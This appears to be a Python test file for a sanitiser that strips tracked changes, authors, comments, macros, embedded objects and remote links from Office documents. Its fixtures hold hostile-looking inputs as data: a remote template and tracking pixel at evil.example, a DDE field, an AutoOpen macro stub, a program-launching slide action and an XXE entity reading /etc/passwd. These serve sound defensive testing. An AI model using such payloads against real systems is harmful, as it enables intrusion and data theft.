"""Word, Excel and PowerPoint: tracked changes are accepted, what tells of people goes."""

import re

import pytest
from lxml import etree

from collab.files.cleaning import What
from collab.files.model import Reason

from .making import R, relations, types, zipped

WHO = 'w:author="Alex Secret" w:date="2024-05-12T10:00:00Z" w:id="1"'
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def p(text: str, looks: str = "") -> str:
    return f"<w:p>{looks}{run(text)}</w:p>"


def run(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def lines(data: bytes) -> list[str]:
    """The text of each paragraph of a body."""
    paragraphs = etree.fromstring(data).iter("{*}p")
    return ["".join(t.text or "" for t in paragraph.iter("{*}t")) for paragraph in paragraphs]


def test_insertions_stay_and_deletions_go(clean, word) -> None:
    body = (
        f"<w:p>{run('We ')}<w:del {WHO}><w:r><w:delText>hid</w:delText></w:r></w:del>"
        f"<w:ins {WHO}>{run('saw ')}<w:moveTo {WHO}>{run('him')}</w:moveTo></w:ins>"
        f"<w:moveFrom {WHO}>{run('elsewhere')}</w:moveFrom></w:p>"
    )
    copy = clean(word(body))
    assert lines(copy.parts["word/document.xml"]) == ["We saw him"]
    assert copy.counts[What.CHANGES] == 4
    assert copy.details[What.AUTHORS] == "Alex Secret"
    assert b"Alex" not in copy.data
    assert not re.search(rb"author|hid|elsewhere|2024", copy.parts["word/document.xml"])


def test_a_deleted_end_joins_two_paragraphs(clean, word) -> None:
    deleted = f"<w:pPr><w:rPr><w:del {WHO}/></w:rPr></w:pPr>"
    inserted = f"<w:pPr><w:rPr><w:ins {WHO}/></w:rPr></w:pPr>"
    body = p("One ", deleted) + p("two") + p("three", inserted)
    copy = clean(word(body))
    assert lines(copy.parts["word/document.xml"]) == ["One two", "three"]


def test_deleted_rows_and_cells_go(clean, word) -> None:
    def row(text: str, mark: str = "", cell: str = "") -> str:
        return f"<w:tr><w:trPr>{mark}</w:trPr><w:tc><w:tcPr>{cell}</w:tcPr>{p(text)}</w:tc></w:tr>"

    body = (
        "<w:tbl>"
        + row("stays", f"<w:ins {WHO}/>")
        + row("row goes", f"<w:del {WHO}/>")
        + row("cell goes", cell=f"<w:cellDel {WHO}/>")
        + "</w:tbl>"
    )
    copy = clean(word(body))
    assert lines(copy.parts["word/document.xml"]) == ["stays"]
    assert copy.parts["word/document.xml"].count(b"<w:tr>") == 1


def test_comments_people_and_session_marks_go(clean, word) -> None:
    comments = f'<w:comments xmlns:w="x"><w:comment {WHO.replace("w:", "")}/></w:comments>'
    body = (
        f'<w:p w:rsidR="00AB12CD"><w:commentRangeStart w:id="1"/>{run("text")}'
        '<w:commentRangeEnd w:id="1"/><w:r><w:commentReference w:id="1"/></w:r></w:p>'
    )
    made = word(
        body,
        ("c", "comments", "comments.xml"),
        ("s", "settings", "settings.xml"),
        **{
            "word/comments.xml": comments,
            "word/settings.xml": (
                '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                '<w:rsids><w:rsid w:val="00AB12CD"/></w:rsids><w:trackRevisions/></w:settings>'
            ),
        },
    )
    copy = clean(made)
    assert copy.counts[What.COMMENTS] == 1
    assert set(copy.parts) == {
        "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels",
        "word/document.xml", "word/settings.xml",
    }  # fmt: skip
    assert b"comment" not in copy.parts["word/document.xml"]
    assert b"comments" not in copy.parts["word/_rels/document.xml.rels"]
    assert b"rsid" not in copy.parts["word/document.xml"] + copy.parts["word/settings.xml"]
    assert b"trackRevisions" not in copy.parts["word/settings.xml"]


def test_nothing_is_fetched_from_elsewhere(clean, word) -> None:
    fields = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        "<w:r><w:instrText>DDE</w:instrText></w:r>"
        "<w:r><w:instrText>AUTO c:\\\\x</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + run("shown") + "</w:p>"
        '<w:p><w:fldSimple w:instr="PAGE"><w:r><w:t>7</w:t></w:r></w:fldSimple></w:p>'
    )
    made = word(
        fields,
        ("t", "attachedTemplate", "http://evil.example/t.dotm"),
        ("i", "image", "http://evil.example/pixel.png"),
        ("f", "hyperlink", "file:///C:/Users/alex/secret.docx"),
        ("w", "hyperlink", "https://example.org/"),
        outside=("t", "i", "f", "w"),
    )
    copy = clean(made)
    told = copy.parts["word/_rels/document.xml.rels"]
    assert b"evil" not in told
    assert b"alex" not in told
    assert b"https://example.org/" in told
    assert lines(copy.parts["word/document.xml"]) == ["shown", "7"]
    assert b"AUTO" not in copy.parts["word/document.xml"]
    assert b"PAGE" in copy.parts["word/document.xml"]
    assert copy.counts[What.OUTSIDE] == 4


def test_macros_go_and_the_type_changes_with_them(clean, word) -> None:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    made = word(
        p("text"),
        ("v", "vbaProject", "vbaProject.bin"),
        main=macro,
        **{"word/vbaProject.bin": b"Sub AutoOpen", "word/smuggled.bin": b"Alex"},
    )
    copy = clean(made, "a.docm")
    assert copy.ending == "docx"
    assert copy.media_type.endswith("wordprocessingml.document")
    assert copy.counts[What.MACROS] == 1
    assert copy.counts[What.APPENDED] == 1
    assert not [name for name in copy.parts if name.endswith(".bin")]
    assert b"macro" not in copy.parts["[Content_Types].xml"]


def test_objects_are_emptied_and_documents_inside_are_cleaned(clean, word) -> None:
    inner = word(p("inside"))
    made = word(
        p("text"),
        ("o", "oleObject", "embeddings/oleObject1.bin"),
        ("d", "package", "embeddings/inner.docx"),
        **{"word/embeddings/oleObject1.bin": b"\xd0\xcf Alex", "word/embeddings/inner.docx": inner},
    )
    copy = clean(made)
    assert copy.parts["word/embeddings/oleObject1.bin"] == b""
    assert b"Alex" not in copy.parts["word/embeddings/inner.docx"]
    assert clean(copy.parts["word/embeddings/inner.docx"]).counts == {}
    assert copy.counts[What.EMBEDDED] == 1


def test_names_of_files_in_pictures_go(clean, word) -> None:
    drawing = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
    body = (
        f'<w:p><d:docPr xmlns:d="{drawing}" id="1" name="IMG_2034.jpg" '
        'descr="C:\\Users\\alex\\victim.jpg"/>'
        f'<d:docPr xmlns:d="{drawing}" id="2" name="Picture 2" descr="A cell with a window"/></w:p>'
    )
    copy = clean(word(body))
    assert copy.counts[What.PATHS] == 2
    assert b"alex" not in copy.parts["word/document.xml"]
    assert b"A cell with a window" in copy.parts["word/document.xml"]


def workbook(sheets: str, sheet: str = "<sheetData/>", **more: str) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": types(xl__workbook=f"{SHEET}.sheet.main+xml"),
            "_rels/.rels": relations(("r1", "officeDocument", "xl/workbook.xml")),
            "xl/_rels/workbook.xml.rels": relations(("s1", "worksheet", "worksheets/sheet1.xml")),
            "xl/workbook.xml": f'<workbook {MAIN} xmlns:r="{R}">{sheets}</workbook>',
            "xl/worksheets/sheet1.xml": f'<worksheet {MAIN} xmlns:r="{R}">{sheet}</worksheet>',
            **more,
        }
    )


def test_a_workbook_forgets_its_folder_and_users(clean) -> None:
    path = (
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        '<mc:Choice Requires="x15"><a:absPath xmlns:a="urn:a" url="C:\\Users\\alex\\"/></mc:Choice>'
        "</mc:AlternateContent>"
    )
    sheets = '<sheets><sheet name="A" r:id="s1"/><sheet name="B" state="hidden"/></sheets>'
    copy = clean(workbook(f'{path}<fileSharing userName="Alex"/>{sheets}'))
    assert b"alex" not in copy.parts["xl/workbook.xml"].lower()
    assert b"AlternateContent" not in copy.parts["xl/workbook.xml"]
    assert copy.counts[What.HIDDEN_SHEETS] == 1


def test_printer_settings_go_with_what_points_to_them(clean) -> None:
    made = workbook(
        '<sheets><sheet name="A" r:id="s1"/></sheets>',
        '<sheetData><row><c><v>7</v></c></row></sheetData><pageSetup paperSize="9" r:id="p1"/>',
        **{
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                ("p1", "printerSettings", "../printerSettings/printerSettings1.bin")
            ),
            "xl/printerSettings/printerSettings1.bin": "Alex's printer",
        },
    )
    copy = clean(made)
    assert copy.counts[What.SETTINGS] == 1
    assert b'paperSize="9"' in copy.parts["xl/worksheets/sheet1.xml"]
    assert b'="p1"' not in copy.parts["xl/worksheets/sheet1.xml"]
    assert b"<v>7</v>" in copy.parts["xl/worksheets/sheet1.xml"]


def test_a_presentation_loses_acts_that_run_programs(clean) -> None:
    slide = (
        '<p:sld xmlns:p="urn:p" xmlns:a="urn:a"><a:hlinkClick action="ppaction://program?x"/>'
        '<a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/></p:sld>'
    )
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    made = zipped(
        {
            "[Content_Types].xml": types(ppt__presentation=main),
            "_rels/.rels": relations(("r1", "officeDocument", "ppt/presentation.xml")),
            "ppt/presentation.xml": "<p:presentation xmlns:p='urn:p'/>",
            "ppt/_rels/presentation.xml.rels": relations(
                ("s", "slide", "slides/slide1.xml"), ("c", "commentAuthors", "commentAuthors.xml")
            ),
            "ppt/slides/slide1.xml": slide,
            "ppt/commentAuthors.xml": '<a xmlns="urn:p"><cmAuthor name="Alex"/></a>',
        }
    )
    copy = clean(made)
    assert copy.details[What.AUTHORS] == "Alex"
    assert "ppt/commentAuthors.xml" not in copy.parts
    assert copy.counts[What.ACTIONS] == 1
    assert b"nextslide" in copy.parts["ppt/slides/slide1.xml"]


@pytest.mark.parametrize(
    ("prolog", "reason"),
    [
        ('<!DOCTYPE x [<!ENTITY a "aaaa">]>', Reason.DAMAGED),
        ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', Reason.DAMAGED),
    ],
)
def test_entities_are_refused(clean, prolog: str, reason: Reason) -> None:
    made = workbook("", **{"xl/workbook.xml": f"{prolog}<workbook {MAIN}>&a;</workbook>"})
    assert clean(made).reason is reason


def test_macro_sheets_of_old_cannot_be_cleaned(clean) -> None:
    made = workbook(
        "",
        **{
            "[Content_Types].xml": types(
                xl__workbook=f"{SHEET}.sheet.main+xml",
                xl__worksheets__sheet1="application/vnd.ms-excel.macrosheet+xml",
            )
        },
    )
    assert clean(made).reason is Reason.UNSUPPORTED
